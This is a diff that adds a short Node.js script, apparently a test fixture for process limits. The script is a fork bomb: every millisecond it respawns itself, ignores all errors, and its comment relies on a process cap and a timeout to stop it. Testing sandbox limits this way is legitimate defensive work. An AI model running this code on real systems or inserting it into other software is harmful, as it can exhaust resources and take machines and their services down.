@@ -1,0 +1,9 @@
+// Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
+const { spawn } = require("child_process");
+setInterval(() => {
+  try {
+    spawn(process.execPath, [__filename], { stdio: "ignore" }).on("error", () => {});
+  } catch (error) {
+    // Go on.
+  }
+}, 1);
